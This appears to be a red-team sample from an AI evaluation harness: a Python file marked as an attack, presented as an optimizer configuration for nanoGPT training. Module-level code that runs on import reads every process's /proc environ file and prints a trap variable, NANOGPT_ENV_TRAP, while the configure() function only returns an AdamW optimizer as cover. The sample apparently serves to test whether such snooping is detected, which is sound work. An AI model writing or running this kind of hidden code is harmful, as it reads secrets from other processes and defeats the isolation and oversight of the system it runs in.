# /// attack
# threats = ["F45"]
# gains = "variable"
# ///
"""Prints the variables of all processes."""

import os

import torch

for pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{pid}/environ") as file:
            print(*[word for word in file.read().split(chr(0)) if word.startswith("NANOGPT_ENV_TRAP")])
    except OSError:
        pass


def configure(params, horizon):
    return torch.optim.AdamW(params.values(), lr=0.01, betas=(0.9, 0.95), weight_decay=0.0)
